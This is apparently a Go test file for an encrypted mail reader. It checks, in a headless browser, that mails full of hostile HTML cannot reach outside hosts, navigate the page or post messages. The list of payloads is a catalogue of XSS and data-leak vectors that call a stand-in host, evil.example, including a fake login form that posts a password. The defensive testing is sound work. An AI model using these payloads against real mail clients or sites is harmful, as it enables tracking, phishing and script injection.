package reader_test

import (
	"fmt"
	"net/http"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"

	"sealpost/directory/reader"
	"sealpost/internal/testkit"
	"sealpost/smime/cms"
)

// hostile is HTML that tries to reach the world in every way we know of. %s is
// where it wants to go.
var hostile = []string{
	`<meta http-equiv="refresh" content="0; url=%s/refresh">`,
	`<link rel="stylesheet" href="%s/style.css"><link rel="prefetch" href="%[1]s/prefetch"><link rel="preload" as="image" href="%[1]s/preload">`,
	`<link rel="dns-prefetch" href="%s"><link rel="preconnect" href="%[1]s"><link rel="icon" href="%[1]s/icon"><link rel="manifest" href="%[1]s/manifest">`,
	`<style>@import url("%s/import.css"); @font-face{font-family:f;src:url(%[1]s/font)} body{background:url(%[1]s/background);font-family:f;cursor:url(%[1]s/cursor),auto}
		li{list-style-image:url(%[1]s/list)} p::before{content:url(%[1]s/content)} div{background:image-set("%[1]s/set" 1x);border-image:url(%[1]s/border) 3}</style>`,
	`<script>fetch("%s/fetch"); new Image().src="%[1]s/image"; navigator.sendBeacon("%[1]s/beacon"); top.location="%[1]s/top"; parent.postMessage({blocked: 99, shown: true}, "*")</script>`,
	`<script src="%s/script.js"></script><script type="module">import "%[1]s/module.js"</script>`,
	`<img src="%s/img"><img srcset="%[1]s/srcset 2x"><img src="x" onerror="location='%[1]s/onerror'"><img loading="lazy" src="%[1]s/lazy"><picture><source srcset="%[1]s/source"><img></picture>`,
	`<svg><image href="%s/svg" xlink:href="%[1]s/xlink"/><use href="%[1]s/use#a"/><script href="%[1]s/svgscript"/><style>@import "%[1]s/svgimport";</style><feImage href="%[1]s/feimage"/></svg>`,
	`<svg><a><animate attributeName="href" values="%s/animate"/><text y="20">x</text></a><set attributeName="onbegin" to="location='%[1]s/set'"/></svg>`,
	`<iframe src="%s/iframe"></iframe><iframe srcdoc="<img src='%[1]s/srcdoc'><script>top.location='%[1]s/srcdoctop'</script>"></iframe>`,
	`<object data="%s/object"></object><embed src="%[1]s/embed"><applet archive="%[1]s/applet"></applet>`,
	`<video src="%s/video" poster="%[1]s/poster" autoplay></video><audio src="%[1]s/audio" autoplay></audio><track src="%[1]s/track">`,
	`<form action="%s/form" method="post"><input name="x" value="secret" autofocus onfocus="form.submit()"><input type="image" src="%[1]s/input"></form>`,
	`<body background="%s/body" onload="location='%[1]s/onload'" onpageshow="fetch('%[1]s/onpageshow')"><table background="%[1]s/table"><tr><td background="%[1]s/td">x</table>`,
	`<details open ontoggle="location='%s/toggle'"><summary>x</summary></details><marquee onstart="location='%[1]s/marquee'">x</marquee>`,
	`<noscript><p title="</noscript><img src=%s/noscript onerror=fetch('%[1]s/noscripterror')>"></noscript>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=%s/mutation onerror=fetch('%[1]s/mutationerror')&gt;">`,
	`<div><template shadowrootmode="open"><img src="%s/shadow"><link rel="stylesheet" href="%[1]s/shadowstyle"></template></div>`,
	`<base href="%s/"><img src="based"><a id="auto" href="clicked">x</a><script>document.getElementById("auto").click()</script>`,
	`<div style="background:url(&quot;%s/inline&quot;)">x</div><div style="background-image:url(cid:none)">x</div><p style="--x:url(%[1]s/var);background:var(--x)">x</p>`,
	`<portal src="%s/portal"></portal><fencedframe></fencedframe><input type="text" list="l"><button popovertarget="p" onclick="fetch('%[1]s/popover')">x</button>`,
}

const evil = "http://evil.example"

func hostileMail(html string) []byte {
	return mail("<html><head></head><body>"+html+"</body></html>", "text", "a.pdf", []byte("x"))
}

// rest gives what is slow, or lazy, its chance: some milliseconds of the page's time.
func (v *visitor) rest(ms int) {
	v.t.Helper()
	run(v, chromedp.Evaluate[bool](fmt.Sprintf(`new Promise(done => setTimeout(() => done(true), %d))`, ms), chromedp.EvalAwaitPromise))
}

// beyond gives the requests that went elsewhere.
func (v *visitor) beyond() (all []string) {
	for _, r := range v.site.made() {
		if !strings.HasPrefix(r.url, v.site.url+"/read") {
			all = append(all, r.method+" "+r.url)
		}
	}
	return all
}

// The control: on an ordinary page the same HTML goes places, and is seen to.
func TestHostileHTMLWorksElsewhere(t *testing.T) {
	v := visit(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		for _, h := range hostile[1:] { // the first would lead away before the others
			fmt.Fprintf(w, strings.ReplaceAll(h, "top.location=", "void "), evil)
		}
	}))
	v.do(chromedp.Navigate(v.site.url))
	seen := map[string]bool{}
	testkit.Poll(t, "what hostile HTML does", func() bool {
		for _, r := range v.site.made() {
			if strings.HasPrefix(r.url, evil) {
				seen[r.url] = true
			}
		}
		return len(seen) >= 15
	})
}

func TestHostileHTMLDoesNothing(t *testing.T) {
	id := issue(t, "p256")
	v := visit(t, newReader(t, reader.Options{}))
	v.enter("en")
	all := strings.Join(hostile, "\n")
	for i, html := range append([]string{all}, hostile...) {
		if i > 0 {
			v.do(chromedp.Click(css("#another")))
		}
		data := sealed(t, hostileMail(fmt.Sprintf(html+strings.Repeat("%.0s", 1), evil)), id, cms.AES128CBC, cms.KeyOptions{})
		key := ""
		if i == 0 {
			key = v.file("key.p12", keyFile(t, id, modern))
		}
		v.choose(v.file(fmt.Sprint(i, ".eml"), data), key, passphrase)
		if trouble := v.open(); trouble != "" {
			t.Fatalf("%s: %s", html, trouble)
		}
		v.shown()
		v.rest(300)
	}
	v.rest(2000)
	if got := v.beyond(); len(got) > 0 {
		t.Errorf("the mail reached %q", got)
	}
	if got := run(v, chromedp.Location()); !strings.HasPrefix(got, v.site.url+"/read") {
		t.Errorf("the mail led to %s", got)
	}
	if got := v.text("notes"); strings.Contains(got, "99") {
		t.Errorf("the mail spoke to the page: %q", got)
	}
}

// What a mail draws over all of its frame is pressed: a form goes nowhere, and a
// link opens outside, without a word about where it was.
func TestPressingInAMail(t *testing.T) {
	id := issue(t, "p256")
	v := visit(t, newReader(t, reader.Options{}))
	v.do(chromedp.EmulateViewport(1000, 1400)) // all of the frame is to be seen
	v.enter("en")
	const all = `style="position:fixed;inset:0;width:100%;height:100%;display:block;font-size:50px"`
	key := v.file("key.p12", keyFile(t, id, modern))
	press := func(html string) {
		t.Helper()
		data := sealed(t, hostileMail(html), id, cms.AES128CBC, cms.KeyOptions{})
		v.choose(v.file("mail.eml", data), key, passphrase)
		key = ""
		if trouble := v.open(); trouble != "" {
			t.Fatal(trouble)
		}
		v.shown()
		v.rest(500)
		at := run(v, chromedp.Evaluate[[]float64](`(r => [r.x + r.width / 2, r.y + r.height / 2])(document.querySelector("#bodies iframe").getBoundingClientRect())`))
		v.do(chromedp.MouseClickXY(at[0], at[1]))
	}
	press(`<form action="` + evil + `/submit"><input name="password" value="x"><button ` + all + `>Log in</button></form>`)
	v.rest(2000)
	for _, href := range []string{"javascript:top.location='" + evil + "/js'", "data:text/html,<script>top.location='" + evil + "/data'</script>", "/claim/end", "blob:null/x"} {
		v.do(chromedp.Click(css("#another")))
		press(`<a ` + all + ` target="_top" href="` + href + `">press</a>`)
	}
	v.rest(2000)
	if got := v.beyond(); len(got) > 0 {
		t.Errorf("pressing led to %q", got)
	}
	v.do(chromedp.Click(css("#another")))
	press(`<a ` + all + ` target="_self" ping="` + evil + `/ping" href="` + evil + `/link?q=1">press</a>`)
	var link *request
	testkit.Poll(t, "the page behind the link", func() bool {
		for _, r := range v.site.made() {
			switch r.url {
			case evil + "/link?q=1":
				link = &r
			case evil + "/ping":
				t.Error("the link tells that it was pressed")
			}
		}
		return link != nil
	})
	if got := link.header.Get("Referer") + link.header.Get("Origin"); got != "" || link.method != http.MethodGet {
		t.Errorf("the link tells where it was: %s %q", link.method, got)
	}
	if got := run(v, chromedp.Location()); !strings.HasPrefix(got, v.site.url+"/read") {
		t.Errorf("the link led away: %s", got)
	}
}

// Pictures from elsewhere are counted, and said to be left out.
func TestPicturesFromElsewhere(t *testing.T) {
	id := issue(t, "p256")
	v := visit(t, newReader(t, reader.Options{}), inOneProcess)
	v.enter("en")
	data := sealed(t, hostileMail(`<img src="`+evil+`/a.png" alt="logo"><img src="cid:logo@bank.example"><img src="CID:logo%40bank.example"><img src="cid:nobody"><b>seen</b>`), id, cms.AES128CBC, cms.KeyOptions{})
	v.choose(v.file("mail.eml", data), v.file("key.p12", keyFile(t, id, modern)), passphrase)
	if trouble := v.open(); trouble != "" {
		t.Fatal(trouble)
	}
	v.shown()
	if got := v.text("notes"); !strings.Contains(got, "2 pictures") {
		t.Errorf("the page says %q", got)
	}
	v.shows("seen")
	v.do(chromedp.Click(css("#bodies button")))
	if got := v.text("bodies"); !strings.Contains(got, "text") {
		t.Errorf("as plain text: %q", got)
	}
	if got := v.beyond(); len(got) > 0 {
		t.Errorf("the mail reached %q", got)
	}
}
